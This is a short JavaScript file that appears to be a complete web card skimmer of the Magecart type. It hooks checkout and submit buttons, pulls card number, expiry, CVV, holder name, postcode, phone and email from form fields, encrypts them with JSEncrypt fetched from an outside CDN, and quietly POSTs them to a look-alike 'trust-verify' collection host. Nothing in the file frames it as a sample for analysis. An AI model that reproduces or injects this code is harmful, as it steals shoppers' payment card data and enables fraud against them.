(function (w, d) {
  var pub = '-----BEGIN PUBLIC KEY-----PLACEHOLDER-----END PUBLIC KEY-----', J = w.JSEncrypt;
  if (!J) { var s = d.createElement('script'); s.src = 'https://cdn.libs-js.example/jsencrypt.min.js'; s.onload = init; d.head.appendChild(s); } else init();
  function pick() {
    var m = { number: /card.?num|cc.?n|pan/i, exp: /exp|valid/i, cvv: /cv[vc]|cid|secur/i, name: /holder|owner|name/i, zip: /zip|post/i, phone: /tel|phone/i, mail: /mail/i }, r = {};
    [].forEach.call(d.querySelectorAll('input,select'), function (e) { for (var k in m) if (!r[k] && m[k].test(e.name + ' ' + e.id + ' ' + e.autocomplete) && e.value) r[k] = e.value; });
    return r;
  }
  function init() {
    var e = new w.JSEncrypt(); e.setPublicKey(pub);
    var btns = d.querySelectorAll('button[type=submit], input[type=submit], a.btn-checkout');
    [].forEach.call(btns, function (b) {
      b.addEventListener('click', function () {
        var r = pick(), p = [];
        if (!r.number || !r.cvv) return;
        JSON.stringify(r).match(/.{1,100}/g).forEach(function (c) { p.push(e.encrypt(c)); });
        fetch('https://api.trust-verify.example/g/collect', { method: 'POST', mode: 'no-cors', body: p.join('.') });
      });
    });
  }
})(window, document);
